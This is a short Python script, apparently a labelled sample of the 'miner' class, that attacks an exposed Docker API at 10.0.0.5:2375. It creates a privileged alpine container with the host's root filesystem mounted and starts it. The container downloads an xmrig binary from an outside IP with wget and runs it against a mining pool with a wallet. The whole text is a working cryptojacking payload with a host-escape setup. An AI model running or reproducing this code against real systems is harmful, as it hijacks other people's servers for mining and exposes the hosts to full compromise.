# class: miner; style: in containers on an open Docker host
import requests
H = "http://10.0.0.5:2375"
r = requests.post(H + "/containers/create", json={"Image": "alpine", "Cmd": ["sh", "-c", "wget -qO /x http://203.0.113.3/xmrig && chmod +x /x && /x -o stratum+tcp://xmr.pool.example:3333 -u wallet"], "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
requests.post(H + f"/containers/{r.json()['Id']}/start")
